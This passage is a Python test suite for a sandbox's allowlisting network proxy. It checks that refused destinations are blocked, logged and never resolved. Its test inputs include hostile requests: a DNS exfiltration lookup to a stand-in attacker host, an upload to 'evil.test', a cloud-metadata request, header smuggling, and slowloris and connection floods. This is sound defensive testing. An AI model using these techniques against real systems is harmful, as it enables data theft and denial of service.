"""network_access: restricted — only allowed_domains, through agentbox's proxy.

Every server here listens on 127.0.0.1 and is started by the test.  Test names
("api.test", ...) are pinned to 127.0.0.1 with network_hosts: that is the
operator consciously opening the inward-address guard for exactly those
names.  Each test checks both what the sandbox saw and what the servers saw
(nothing, for every refusal), and the violations the result reports.
"""
import contextlib
import http.server
import json
import os
import socket
import subprocess
import threading
import time

import pytest

from canaries import brief, py, run_box


class Origin:
    """An HTTP server on 127.0.0.1 that records every request it gets, and
    counts the connections it accepts.  idle_timeout: seconds a connection
    may wait for its request before the server closes it."""

    def __init__(self, idle_timeout=None):
        seen = self.seen = []
        accepted = self.accepted = []

        class Handler(http.server.BaseHTTPRequestHandler):
            timeout = idle_timeout

            def do_GET(self):
                seen.append(("GET", self.path, self.headers.get("Host")))
                body = b"hello from origin " + self.path.encode()
                if self.path == "/big":
                    body = b"x" * (1 << 20)
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self):
                n = int(self.headers.get("Content-Length", 0))
                data = self.rfile.read(n)
                seen.append(("POST", self.path, self.headers.get("Host"), data))
                self.send_response(200)
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def log_message(self, *args):
                pass

        class Server(http.server.ThreadingHTTPServer):
            def get_request(self):
                conn = super().get_request()
                accepted.append(time.monotonic())
                return conn

        self.server = Server(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def origin():
    o = Origin()
    yield o
    o.close()


# Through the proxy explicitly: NO_PROXY sends 127.0.0.1 and localhost around it.
VIA = '''
import http.client
def via(label, url, timeout=10):
    host = url.split("/")[2]
    c = http.client.HTTPConnection("127.0.0.1", 3128, timeout=timeout)
    c.request("GET", url, headers={"Host": host})
    r = c.getresponse()
    print(f"{label}: {r.status} {r.read().decode().strip()}", flush=True)
'''


def restricted(origin, *domains, hosts=("api.test", "other.test")):
    args = ["--network", "restricted"]
    for d in domains:
        args += ["--allow-domain", d.replace("PORT", str(origin.port))]
    for h in hosts:
        args += ["--network-host", f"{h}=127.0.0.1"]
    return args


def policy_file(tmp_path, key, value):
    """A policy file setting one key of security_policy."""
    path = tmp_path / "policy.yaml"
    path.write_text(f"agent_sandbox:\n  security_policy:\n    {key}: {value}\n")
    return str(path)


def run_watched(args, env, sample, every=0.05):
    """Runs agentbox, calling sample(pid) while it runs; returns the parsed
    result and the samples as (seconds since start, value)."""
    p = subprocess.Popen(args, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env)
    samples, t0 = [], time.monotonic()
    while p.poll() is None:
        try:
            samples.append((time.monotonic() - t0, sample(p.pid)))
        except OSError:
            pass
        time.sleep(every)
    out, _ = p.communicate()
    doc = json.loads(out)
    doc["_exit"] = p.returncode
    return doc, samples


def violations(doc):
    return [(v["rule"], v["target"], v["detail"]) for v in doc["violations"]]


def ok(doc, stdout):
    assert (doc["status"], doc["exit_code"], doc["_exit"]) == ("success", 0, 0), brief(doc)
    assert doc["stdout"] == stdout, brief(doc)


FETCH = '''
import urllib.request, urllib.error, http.client
def fetch(label, url):
    try:
        with urllib.request.urlopen(url, timeout=10) as r:
            print(f"{label}: {r.status} {r.read().decode()}", flush=True)
    except urllib.error.HTTPError as e:
        print(f"{label}: {e.code} {e.read().decode().strip()}", flush=True)
    except OSError as e:
        print(f"{label}: {type(e).__name__}", flush=True)
'''


def test_allowed_name_reaches_server_with_urllib_http_client_and_curl(box, canary, origin):
    doc = run_box(box, "python", *restricted(origin, "api.test:PORT"), "-c", py(FETCH, '''
        fetch("urllib", f"http://api.test:{PORT}/a")
        c = http.client.HTTPConnection("127.0.0.1", 3128, timeout=10)
        c.request("GET", f"http://api.test:{PORT}/b", headers={"Host": f"api.test:{PORT}"})
        r = c.getresponse()
        print("http.client:", r.status, r.read().decode())
        import subprocess
        p = subprocess.run(["curl", "-sS", f"http://api.test:{PORT}/c"], capture_output=True)
        print("curl:", p.returncode, p.stdout.decode())
        p = subprocess.run(["curl", "-sS", "--socks5-hostname", "127.0.0.1:3128",
                            f"http://api.test:{PORT}/d"], capture_output=True)
        print("curl socks5:", p.returncode, p.stdout.decode())
        for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "NO_PROXY"):
            print(name, os.environ[name], os.environ[name.lower()])
    ''', PORT=origin.port), canary=canary)
    ok(doc, "urllib: 200 hello from origin /a\nhttp.client: 200 hello from origin /b\n"
            "curl: 0 hello from origin /c\ncurl socks5: 0 hello from origin /d\n"
            "HTTP_PROXY http://127.0.0.1:3128 http://127.0.0.1:3128\n"
            "HTTPS_PROXY http://127.0.0.1:3128 http://127.0.0.1:3128\n"
            "ALL_PROXY socks5h://127.0.0.1:3128 socks5h://127.0.0.1:3128\n"
            "NO_PROXY localhost,127.0.0.1,::1 localhost,127.0.0.1,::1\n")
    host = f"api.test:{origin.port}"
    assert [s[:3] for s in origin.seen] == [("GET", "/a", host), ("GET", "/b", host),
                                             ("GET", "/c", host), ("GET", "/d", host)]
    assert doc["violations"] == []
    canary.assert_untouched(doc)


class FakeResolver:
    """A DNS server on 127.77.0.53:53 that writes down every name it is asked
    for and answers NXDOMAIN; `wrapper` runs agentbox in a private mount
    namespace whose /etc/resolv.conf names only this server."""
    ADDRESS = "127.77.0.53"

    def __init__(self, tmp_path):
        self.names = []
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind((self.ADDRESS, 53))
        self.sock.settimeout(0.1)
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()
        conf = tmp_path / "resolv.conf"
        conf.write_text(f"nameserver {self.ADDRESS}\noptions timeout:1 attempts:1\n")
        self.wrapper = ["unshare", "--mount", "--propagation", "private", "sh", "-c",
                        'mount --bind "$0" /etc/resolv.conf && exec "$@"', str(conf)]

    def serve(self):
        while not self.stop.is_set():
            try:
                q, peer = self.sock.recvfrom(4096)
            except socket.timeout:
                continue
            labels, i = [], 12
            while i < len(q) and q[i]:
                labels.append(q[i + 1:i + 1 + q[i]].decode("ascii", "replace"))
                i += 1 + q[i]
            self.names.append(".".join(labels).lower())
            # The question back, flagged a response with NXDOMAIN.
            self.sock.sendto(q[:2] + bytes([0x81, 0x83]) + q[4:6] + b"\0\0\0\0\0\0" +
                             q[12:i + 5], peer)

    def close(self):
        self.stop.set()
        self.thread.join()
        self.sock.close()


@pytest.fixture
def resolver(tmp_path):
    r = FakeResolver(tmp_path)
    yield r
    r.close()


def test_name_not_on_the_list_gets_403_and_a_violation_and_is_never_resolved(box, canary,
                                                                              origin, resolver):
    # other.test is pinned to the origin too: if the proxy let it through, the
    # origin would see the request.  stolen-*.attacker.test must never reach a
    # resolver (the lookup alone would carry the data out): the host's resolver
    # is a test server here that notes every name.  lookup-me.test is listed
    # and not pinned, so it is looked up: the proof that the server hears.
    doc = run_box(box, "python", *restricted(origin, "api.test:PORT", "lookup-me.test"), "-c",
                  py(FETCH, '''
        fetch("other", f"http://other.test:{PORT}/x")
        fetch("exfil", "http://stolen-c2VjcmV0.attacker.test/y")
        import subprocess
        p = subprocess.run(["curl", "-sS", "https://stolen-c2VjcmV0.attacker.test/"],
                           capture_output=True)
        print("curl https:", p.returncode, p.stderr.decode().strip())
        fetch("listed", "http://lookup-me.test/z")
    ''', PORT=origin.port), canary=canary, wrapper=resolver.wrapper)
    ok(doc, f"other: 403 other.test:{origin.port} is not in allowed_domains\n"
            "exfil: 403 stolen-c2vjcmv0.attacker.test:80 is not in allowed_domains\n"
            "curl https: 56 curl: (56) CONNECT tunnel failed, response 403\n"
            "listed: 502 cannot resolve lookup-me.test: Name or service not known\n")
    assert "lookup-me.test" in resolver.names, resolver.names
    assert [n for n in resolver.names if "attacker" in n or "stolen" in n or
            n.startswith("other.test")] == [], resolver.names
    assert origin.seen == []
    assert violations(doc) == [
        ("network", f"other.test:{origin.port}", "not in allowed_domains"),
        ("network", "stolen-c2vjcmv0.attacker.test:80", "not in allowed_domains"),
        ("network", "stolen-c2vjcmv0.attacker.test:443", "not in allowed_domains")]
    assert "refused 3 requests" in doc["message"]
    canary.assert_untouched(doc)


def test_listed_name_resolving_to_an_internal_address_is_refused(box, canary, origin):
    # "localhost" is on the list but not pinned: the host's resolver says
    # 127.0.0.1, which is loopback, so the guard refuses it.
    doc = run_box(box, "python", *restricted(origin, "localhost:PORT", hosts=()), "-c",
                  py(VIA, 'via("localhost", f"http://localhost:{PORT}/")', PORT=origin.port),
                  canary=canary)
    assert doc["stdout"].startswith("localhost: 403 localhost resolves to "), brief(doc)
    assert "(loopback), which is not allowed" in doc["stdout"], brief(doc)
    assert origin.seen == []
    assert violations(doc)[0][:2] == ("network", f"localhost:{origin.port}")
    assert (doc["status"], doc["_exit"]) == ("success", 0), brief(doc)
    canary.assert_untouched(doc)


def test_a_name_with_several_addresses_falls_back_to_the_next(box, canary, origin):
    # fall.test is pinned to ::1 first, where nothing listens on the
    # origin's port, then to 127.0.0.1, where the origin does.
    doc = run_box(box, "python", "--network", "restricted",
                  "--allow-domain", f"fall.test:{origin.port}",
                  "--network-host", "fall.test=::1", "--network-host", "fall.test=127.0.0.1",
                  "-c", py(VIA, 'via("fall", f"http://fall.test:{PORT}/f")', PORT=origin.port),
                  canary=canary)
    ok(doc, "fall: 200 hello from origin /f\n")
    assert origin.seen == [("GET", "/f", f"fall.test:{origin.port}")]
    assert doc["violations"] == []
    canary.assert_untouched(doc)


@contextlib.contextmanager
def black_holes(port, *addresses):
    """Listeners on these loopback addresses whose accept queues are full:
    the kernel drops every further SYN, so a connect there never finishes."""
    socks = []
    try:
        for address in addresses:
            black = socket.socket()
            black.bind((address, port))
            black.listen(0)
            socks.append(black)
            for _ in range(2):
                f = socket.socket()
                f.setblocking(False)
                f.connect_ex((address, port))
                socks.append(f)
        time.sleep(0.2)
        yield
    finally:
        for s in socks:
            s.close()


def test_an_address_that_never_answers_gives_way_to_the_next(box, canary, origin):
    # slow.test's first two addresses never answer; the proxy must give each
    # only its share of the 10 s connect time (a third, then half of what is
    # left) and reach 127.0.0.1, where the origin answers, at about 6.7 s --
    # before the client's own 10 s timeout.  A full 10 s each would not.
    with black_holes(origin.port, "127.0.0.2", "127.0.0.3"):
        doc = run_box(box, "python", "--network", "restricted",
                      "--allow-domain", f"slow.test:{origin.port}",
                      "--network-host", "slow.test=127.0.0.2",
                      "--network-host", "slow.test=127.0.0.3",
                      "--network-host", "slow.test=127.0.0.1",
                      "-c", py(VIA, 'via("slow", f"http://slow.test:{PORT}/s")', PORT=origin.port),
                      canary=canary)
    ok(doc, "slow: 200 hello from origin /s\n")
    assert origin.seen == [("GET", "/s", f"slow.test:{origin.port}")]
    assert doc["violations"] == []
    canary.assert_untouched(doc)


def test_a_destination_that_never_answers_gets_504_after_the_connect_time(box, canary, origin):
    # Its only address never answers: after the 10 s connect time the client
    # gets a 504.  Not a refusal by policy: no violation.  (The client waits
    # longer than the proxy's connect time, or the two 10 s would race.)
    with black_holes(origin.port, "127.0.0.2"):
        doc = run_box(box, "python", "--network", "restricted", "--timeout", "30",
                      "--allow-domain", f"hole.test:{origin.port}",
                      "--network-host", "hole.test=127.0.0.2",
                      "-c", py(VIA, 'via("hole", f"http://hole.test:{PORT}/h", timeout=20)',
                               PORT=origin.port),
                      canary=canary)
    ok(doc, "hole: 504 the destination did not answer in time\n")
    assert origin.seen == []
    assert doc["violations"] == []
    canary.assert_untouched(doc)


def test_many_lookups_at_once_all_get_their_answer(box, canary, origin, tmp_path):
    # localhost is not pinned: the proxy looks it up (the host's /etc/hosts),
    # on one thread per request; the IP entries open the guard for exactly
    # those loopback addresses.  Sixty lookups finish at about the same
    # time: each connection must still hear of its own.
    doc = run_box(box, "python", "--network", "restricted",
                  "--config", policy_file(tmp_path, "max_concurrent_connections", 100),
                  "--allow-domain", f"localhost:{origin.port}",
                  "--allow-domain", f"127.0.0.1:{origin.port}",
                  "--allow-domain", f"[::1]:{origin.port}",
                  "-c", py('''
        import http.client, threading
        got = []
        def one(i):
            try:
                c = http.client.HTTPConnection("127.0.0.1", 3128, timeout=30)
                c.request("GET", f"http://localhost:{PORT}/{i}",
                          headers={"Host": f"localhost:{PORT}"})
                got.append(c.getresponse().status)
            except OSError as e:
                got.append(type(e).__name__)
        threads = [threading.Thread(target=one, args=(i,)) for i in range(60)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        print(sorted(map(str, got)))
    ''', PORT=origin.port), canary=canary, timeout=60)
    ok(doc, str(["200"] * 60) + "\n")
    assert sorted(s[1] for s in origin.seen) == sorted(f"/{i}" for i in range(60))
    canary.assert_untouched(doc)


def test_ip_literals_match_only_ip_rules_as_written(box, canary, origin):
    doc = run_box(box, "python", *restricted(origin, "api.test:PORT", "127.0.0.1:PORT"), "-c",
                  py(VIA, '''
        via("ip listed", f"http://127.0.0.1:{PORT}/ip")
        via("other port", f"http://127.0.0.1:{PORT + 1}/no")
        via("decimal form", f"http://2130706433:{PORT}/no")
        via("v6 form", f"http://[::ffff:127.0.0.1]:{PORT}/no")
    ''', PORT=origin.port), canary=canary)
    lines = doc["stdout"].splitlines()
    assert lines[0] == "ip listed: 200 hello from origin /ip", brief(doc)
    assert lines[1] == f"other port: 403 127.0.0.1:{origin.port + 1} is not in allowed_domains"
    assert lines[2].startswith("decimal form: 400"), brief(doc)
    assert lines[3] == f"v6 form: 403 [::ffff:127.0.0.1]:{origin.port} is not in allowed_domains"
    assert [s[1] for s in origin.seen] == ["/ip"]
    assert (doc["status"], doc["_exit"]) == ("success", 0), brief(doc)
    canary.assert_untouched(doc)


def test_connect_to_a_port_not_allowed_is_refused(box, canary, origin):
    doc = run_box(box, "python", *restricted(origin, "api.test:PORT"), "-c", py('''
        s = socket.create_connection(("127.0.0.1", 3128), 5)
        s.sendall(b"CONNECT api.test:22 HTTP/1.1\\r\\nHost: api.test:22\\r\\n\\r\\n")
        print(s.recv(200).split(b"\\r\\n")[0].decode())
        s = socket.create_connection(("127.0.0.1", 3128), 5)
        s.sendall(f"CONNECT api.test:{PORT} HTTP/1.1\\r\\n\\r\\n".encode())
        print(s.recv(200).split(b"\\r\\n")[0].decode())
        s.sendall(f"GET /tunnel HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n".encode())
        print(s.recv(200).split(b"\\r\\n")[0].decode())
    ''', PORT=origin.port), canary=canary)
    ok(doc, "HTTP/1.1 403 Forbidden\nHTTP/1.1 200 Connection established\nHTTP/1.0 200 OK\n")
    assert [s[1] for s in origin.seen] == ["/tunnel"]
    assert violations(doc) == [("network", "api.test:22", "not in allowed_domains")]
    canary.assert_untouched(doc)


def test_socks5_with_domain_names_is_checked_like_http(box, canary, origin):
    doc = run_box(box, "python", *restricted(origin, "api.test:PORT"), "-c", py('''
        import struct
        def socks(name, port):
            s = socket.create_connection(("127.0.0.1", 3128), 5)
            s.sendall(b"\\x05\\x01\\x00")
            assert s.recv(2) == b"\\x05\\x00"
            s.sendall(b"\\x05\\x01\\x00\\x03" + bytes([len(name)]) + name + struct.pack("!H", port))
            return s, s.recv(10)[1]
        s, code = socks(b"api.test", PORT)
        s.sendall(b"GET /socks HTTP/1.1\\r\\nHost: api.test\\r\\nConnection: close\\r\\n\\r\\n")
        print("allowed", code, s.recv(100).split(b"\\r\\n")[0].decode())
        s, code = socks(b"evil.test", PORT)
        print("refused", code)
    ''', PORT=origin.port), canary=canary)
    ok(doc, "allowed 0 HTTP/1.0 200 OK\nrefused 2\n")
    assert [s[1] for s in origin.seen] == ["/socks"]
    assert violations(doc) == [("network", f"evil.test:{origin.port}", "not in allowed_domains")]
    canary.assert_untouched(doc)


def test_socks5_without_no_auth_is_refused(box, canary, origin):
    # Only username/password offered: the answer is "no acceptable method",
    # and the connection ends.  (A SOCKS head that times out is closed with
    # no answer at all, so 05ff is the refusal's, not the deadline's.)
    doc = run_box(box, "python", *restricted(origin, "api.test:PORT"), "-c", py('''
        s = socket.create_connection(("127.0.0.1", 3128), 5)
        s.sendall(b"\\x05\\x01\\x02")
        print(s.recv(2).hex(), s.recv(1) == b"")
    ''', PORT=origin.port), canary=canary)
    ok(doc, "05ff True\n")
    assert origin.seen == []
    canary.assert_untouched(doc)


def test_host_header_and_pipelining_cannot_smuggle_a_second_destination(box, canary, origin):
    doc = run_box(box, "python", *restricted(origin, "api.test:PORT"), "-c", py('''
        def raw(data):
            s = socket.create_connection(("127.0.0.1", 3128), 5)
            s.sendall(data)
            out = b""
            while True:
                b = s.recv(4096)
                if not b:
                    return out
                out += b
        r = raw(f"GET http://api.test:{PORT}/one HTTP/1.1\\r\\nHost: other.test:{PORT}\\r\\n\\r\\n".encode())
        print(r.split(b"\\r\\n")[0].decode())
        r = raw(f"GET http://api.test:{PORT}/first HTTP/1.1\\r\\nHost: api.test:{PORT}\\r\\n\\r\\n"
                f"GET http://other.test:{PORT}/second HTTP/1.1\\r\\nHost: other.test:{PORT}\\r\\n\\r\\n".encode())
        print(r.count(b"HTTP/1.0 200"), b"/second" in r)
    ''', PORT=origin.port), canary=canary)
    ok(doc, "HTTP/1.1 400 Bad Request\n1 False\n")
    assert [s[1:3] for s in origin.seen] == [("/first", f"api.test:{origin.port}")]
    canary.assert_untouched(doc)


def test_raw_connect_to_the_hosts_listener_fails_in_restricted_too(box, canary, listener, origin):
    doc = run_box(box, "python", *restricted(origin, "api.test:PORT"), "-c", py('''
        for label, addr in (("listener", ("127.0.0.1", LPORT)), ("origin", ("127.0.0.1", OPORT))):
            s = socket.socket()
            s.settimeout(2)
            attempt(label, s.connect, addr)
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        attempt("udp", u.sendto, b"x", ("127.0.0.1", UPORT))
        try:
            socket.getaddrinfo("example.com", 80)
            print("dns: answered")
        except socket.gaierror:
            print("dns: no answer")
    ''', LPORT=listener.port, OPORT=origin.port, UPORT=listener.udp_port), canary=canary)
    assert doc["stdout"] in ("listener: ECONNREFUSED\norigin: ECONNREFUSED\nudp: OK\ndns: no answer\n",
                             "listener: ECONNREFUSED\norigin: ECONNREFUSED\nudp: ECONNREFUSED\n"
                             "dns: no answer\n"), brief(doc)
    assert listener.contacts() == [] and origin.seen == []
    assert (doc["status"], doc["_exit"]) == ("success", 0), brief(doc)
    canary.assert_untouched(doc)


def test_connection_limit_refuses_and_reports(box, canary, origin, tmp_path):
    config = policy_file(tmp_path, "max_network_connections", 2)
    doc = run_box(box, "python", "--config", config, *restricted(origin, "api.test:PORT"),
                  "-c", py(FETCH, '''
        for i in range(4):
            fetch(f"req{i}", f"http://api.test:{PORT}/{i}")
    ''', PORT=origin.port), canary=canary)
    lines = doc["stdout"].splitlines()
    assert lines[:2] == ["req0: 200 hello from origin /0", "req1: 200 hello from origin /1"]
    assert lines[2] == "req2: 403 max_network_connections (2) reached", brief(doc)
    assert len(origin.seen) == 2
    assert ("network", f"api.test:{origin.port}", "max_network_connections (2) reached") in \
        violations(doc)
    assert (doc["status"], doc["_exit"]) == ("success", 0), brief(doc)
    canary.assert_untouched(doc)


def test_the_next_request_finds_its_connection_opened_ahead_counted_once(box, canary, origin,
                                                                        tmp_path):
    """Once the origin answers a forwarded request, the proxy opens one
    connection to the same address ahead of the next request (the handshake
    and the origin's accept out of its way: src/net/proxy.c, spare_open).
    It carries nothing until a request to exactly that host and port takes
    it, and counts as that request's connection."""
    # The requests are 0.1 s apart: a spare is opened when the origin has
    # closed the last request's connection, which a client that is quicker
    # than that (by the origin's own end, well under 0.1 s) does not wait for.
    config = policy_file(tmp_path, "max_network_connections", 3)
    doc = run_box(box, "python", "--config", config, *restricted(origin, "api.test:PORT"),
                  "-c", py(FETCH, '''
        import time
        for i in range(4):
            fetch(f"req{i}", f"http://api.test:{PORT}/{i}")
            time.sleep(0.1)
    ''', PORT=origin.port), canary=canary)
    assert doc["stdout"].splitlines() == [
        "req0: 200 hello from origin /0", "req1: 200 hello from origin /1",
        "req2: 200 hello from origin /2", "req3: 403 max_network_connections (3) reached"
    ], brief(doc)
    # req1 and req2 rode on connections opened ahead; none was opened once
    # the limit was reached, nor after the refusal.
    assert (len(origin.seen), len(origin.accepted)) == (3, 3), (origin.seen, origin.accepted)

    other = Origin()
    try:
        doc = run_box(box, "python", *restricted(origin, "api.test:PORT",
                                                 f"api.test:{other.port}"),
                      "-c", py(FETCH, '''
            import time
            for label, url in (("a", f"http://api.test:{PORT}/a"),
                               ("b", f"http://api.test:{OTHER}/b"),
                               ("c", f"http://other.test:{PORT}/c"),
                               ("d", f"http://api.test:{PORT}/d")):
                fetch(label, url)
                time.sleep(0.1)
        ''', PORT=origin.port, OTHER=other.port), canary=canary)
        assert doc["stdout"].splitlines() == [
            "a: 200 hello from origin /a", "b: 200 hello from origin /b",
            f"c: 403 other.test:{origin.port} is not in allowed_domains",
            "d: 200 hello from origin /d"], brief(doc)
        # One spare at a time, for the last destination only: a's went
        # unused (b is another port), b's too (c was refused, d is another
        # port), d's closed with the run.  Never a spare for c.
        assert len(other.accepted) == 2 and len(other.seen) == 1, other.accepted
        assert len(origin.accepted) == 3 + 4 and len(origin.seen) == 3 + 2
    finally:
        other.close()
    canary.assert_untouched(doc)


def test_a_connection_opened_ahead_that_the_origin_closed_is_not_used(box, canary):
    """An origin that drops connections idle for 50 ms: the request after a
    pause must get a connection of its own, not the dead spare."""
    strict = Origin(idle_timeout=0.05)
    try:
        doc = run_box(box, "python", *restricted(strict, "api.test:PORT"), "-c", py(FETCH, '''
            import time
            fetch("first", f"http://api.test:{PORT}/1")
            time.sleep(0.3)
            fetch("second", f"http://api.test:{PORT}/2")
        ''', PORT=strict.port), canary=canary)
        ok(doc, "first: 200 hello from origin /1\nsecond: 200 hello from origin /2\n")
        assert len(strict.seen) == 2 and len(strict.accepted) >= 3, strict.accepted
    finally:
        strict.close()
    canary.assert_untouched(doc)


def test_malformed_huge_slow_and_a_thousand_connections_leave_the_proxy_serving(box, canary,
                                                                                origin):
    """Garbage, a 1 MB header, a slowloris head and 1000 connections at once:
    the proxy keeps serving, and once they are over, the supervisor holds no
    more descriptors than before them."""
    code = py('''
        import select, time
        time.sleep(1.0)                                  # fd baseline is taken now
        def ask(data, wait=5):
            s = socket.create_connection(("127.0.0.1", 3128), 5)
            try:
                s.sendall(data)
            except OSError:
                pass
            s.settimeout(wait)
            try:
                return s.recv(200).split(b"\\r\\n")[0].decode()
            except OSError as e:
                return type(e).__name__
            finally:
                s.close()
        print("garbage:", ask(b"\\x16\\x03\\x01 not http at all\\r\\n\\r\\n"))
        print("huge:", ask(b"GET http://api.test/ HTTP/1.1\\r\\nX: " + b"a" * (1 << 20)))
        slow = socket.create_connection(("127.0.0.1", 3128), 5)
        slow.sendall(b"GET http://api.test/ HTTP/1.1\\r\\nX-Slow: ")
        socks = []
        for i in range(1000):
            s = socket.socket()
            s.setblocking(False)
            try:
                s.connect(("127.0.0.1", 3128))
            except BlockingIOError:
                pass
            socks.append(s)
        for s in socks:                                  # a first byte: now the proxy's
            try:
                s.send(b"G")
            except OSError:
                pass
        time.sleep(1)
        for s in socks:
            s.close()
        slow.settimeout(8)
        print("slowloris:", slow.recv(100).split(b"\\r\\n")[0].decode())
        slow.close()
        print("still serving:", ask(f"GET http://api.test:{PORT}/after HTTP/1.1\\r\\n"
                                    f"Host: api.test:{PORT}\\r\\n\\r\\n".encode()))
        time.sleep(2.0)                                  # fd count is taken again now
    ''', PORT=origin.port)
    args = [box.path, "python", "--json", "--timeout", "40", "--open-files", "4096",
            *restricted(origin, "api.test:PORT"), "-c", code]
    doc, samples = run_watched(args, canary.env, lambda pid: len(os.listdir(f"/proc/{pid}/fd")))
    ok(doc, "garbage: HTTP/1.1 400 Bad Request\nhuge: HTTP/1.1 431 Request Header Fields Too Large\n"
            "slowloris: HTTP/1.1 408 Request Timeout\nstill serving: HTTP/1.0 200 OK\n")
    assert [s[1] for s in origin.seen] == ["/after"]
    assert_no_fd_growth(samples)
    assert any(v[2].startswith("max concurrent connections") for v in violations(doc)), brief(doc)
    canary.assert_untouched(doc)


def assert_no_fd_growth(samples):
    """The supervisor's descriptors at the end (the code sleeps its last 2 s)
    are no more than at the start (sampled while the code sleeps its first)."""
    end = samples[-1][0]
    before = [n for t, n in samples if 0.4 < t < 0.9]
    after = [n for t, n in samples if end - 1.2 < t < end - 0.3]
    assert before and after, samples
    assert max(after) <= min(before), (before, after)


def test_a_connection_that_says_nothing_gets_its_408_and_leaves_nothing(box, canary, origin):
    """The listener hands a connection over only once its first bytes are in
    (TCP_DEFER_ACCEPT); one that never speaks still reaches the proxy (after
    the kernel's deferral) and gets the head timeout's 408, and the proxy
    serves on with no more descriptors than before."""
    code = py('''
        import time
        time.sleep(1.0)                                  # fd baseline is taken now
        silent = socket.create_connection(("127.0.0.1", 3128), 5)
        silent.settimeout(40)
        print("silent:", silent.recv(100).split(b"\\r\\n")[0].decode(), flush=True)
        silent.close()
        s = socket.create_connection(("127.0.0.1", 3128), 5)
        s.sendall(f"GET http://api.test:{PORT}/after HTTP/1.1\\r\\n"
                  f"Host: api.test:{PORT}\\r\\n\\r\\n".encode())
        s.settimeout(10)
        print("still serving:", s.recv(100).split(b"\\r\\n")[0].decode())
        s.close()
        time.sleep(2.0)                                  # fd count is taken again now
    ''', PORT=origin.port)
    args = [box.path, "python", "--json", "--timeout", "60",
            *restricted(origin, "api.test:PORT"), "-c", code]
    doc, samples = run_watched(args, canary.env, lambda pid: len(os.listdir(f"/proc/{pid}/fd")))
    ok(doc, "silent: HTTP/1.1 408 Request Timeout\nstill serving: HTTP/1.0 200 OK\n")
    assert [s[1] for s in origin.seen] == ["/after"]
    assert_no_fd_growth(samples)
    canary.assert_untouched(doc)


def test_refusals_are_audit_events(box, canary, origin, tmp_path):
    log = tmp_path / "audit.jsonl"
    doc = run_box(box, "python", *restricted(origin, "api.test:PORT"), "--audit-log", str(log),
                  "-c", py(VIA, '''
        via("evil", "http://evil.test/")
        via("metadata", "http://169.254.169.254/latest/meta-data/")
    '''), canary=canary)
    ok(doc, "evil: 403 evil.test:80 is not in allowed_domains\n"
            "metadata: 403 169.254.169.254:80 is not in allowed_domains\n")
    (event,) = [json.loads(line) for line in log.read_text().splitlines()]
    assert [(v["rule"], v["target"]) for v in event["violations"]] == [
        ("network", "evil.test:80"), ("network", "169.254.169.254:80")]
    assert event["level"] == "alert", event
    assert origin.seen == []
    canary.assert_untouched(doc)


def test_byte_limit_cuts_the_transfer_and_later_requests(box, canary, origin, tmp_path):
    config = policy_file(tmp_path, "max_network_bytes", "64k")
    doc = run_box(box, "python", "--config", config, *restricted(origin, "api.test:PORT"),
                  "-c", py(FETCH, '''
        try:
            with urllib.request.urlopen(f"http://api.test:{PORT}/big", timeout=10) as r:
                data = r.read()
            print("big:", len(data))
        except Exception as e:
            print("big: cut", type(e).__name__)
        fetch("after", f"http://api.test:{PORT}/after")
    ''', PORT=origin.port), canary=canary)
    lines = doc["stdout"].splitlines()
    assert lines[0].startswith("big: cut"), brief(doc)
    assert lines[1] == "after: 403 max_network_bytes (65536) reached", brief(doc)
    assert [s[1] for s in origin.seen] == ["/big"]
    assert any(v[2].startswith("max_network_bytes (65536) reached") for v in violations(doc))
    assert (doc["status"], doc["_exit"]) == ("success", 0), brief(doc)
    canary.assert_untouched(doc)


def test_socks5_greeting_and_request_in_one_write_get_both_answers(box, canary, origin):
    doc = run_box(box, "python", *restricted(origin, "api.test:PORT"), "-c", py('''
        import struct
        def both(name, port):
            s = socket.create_connection(("127.0.0.1", 3128), 5)
            s.sendall(b"\\x05\\x01\\x00" + b"\\x05\\x01\\x00\\x03" + bytes([len(name)]) + name
                      + struct.pack("!H", port))
            got = b""
            while len(got) < 12:
                b = s.recv(12 - len(got))
                if not b:
                    break
                got += b
            reply = b""
            try:  # through the tunnel, if there is one
                s.sendall(b"GET /through HTTP/1.0\\r\\nHost: api.test\\r\\n\\r\\n")
                while True:
                    b = s.recv(4096)
                    if not b:
                        break
                    reply += b
            except OSError:
                pass
            return got[:2].hex(), got[2:4].hex(), reply.split(b"\\r\\n")[0].decode() or "-"
        print("allowed", *both(b"api.test", PORT))
        print("refused", *both(b"evil.test", PORT))
    ''', PORT=origin.port), canary=canary)
    ok(doc, "allowed 0500 0500 HTTP/1.0 200 OK\nrefused 0500 0502 -\n")
    assert origin.seen == [("GET", "/through", "api.test")]
    assert violations(doc) == [("network", f"evil.test:{origin.port}", "not in allowed_domains")]
    canary.assert_untouched(doc)


def test_refused_request_with_a_body_still_gets_its_403(box, canary, origin):
    doc = run_box(box, "python", *restricted(origin, "api.test:PORT"), "-c", py(FETCH, '''
        req = urllib.request.Request("http://evil.test/upload", data=b"x" * 2000000)
        try:
            urllib.request.urlopen(req, timeout=10)
        except urllib.error.HTTPError as e:
            print("upload:", e.code, e.read().decode().strip())
        except OSError as e:
            print("upload:", type(e).__name__, e)
    ''', PORT=origin.port), canary=canary)
    ok(doc, "upload: 403 evil.test:80 is not in allowed_domains\n")
    assert origin.seen == []
    assert violations(doc) == [("network", "evil.test:80", "not in allowed_domains")]
    canary.assert_untouched(doc)


def test_bare_line_breaks_cannot_smuggle_a_header_and_host_is_always_the_target(box, canary,
                                                                                 origin):
    doc = run_box(box, "python", *restricted(origin, "api.test:PORT"), "-c", py('''
        def raw(data):
            s = socket.create_connection(("127.0.0.1", 3128), 5)
            s.sendall(data)
            return s.recv(100).split(b"\\r\\n")[0].decode()
        print(raw(f"GET http://api.test:{PORT}/b HTTP/1.0\\r\\nX: a\\nHost: evil.test\\r\\n\\r\\n".encode()))
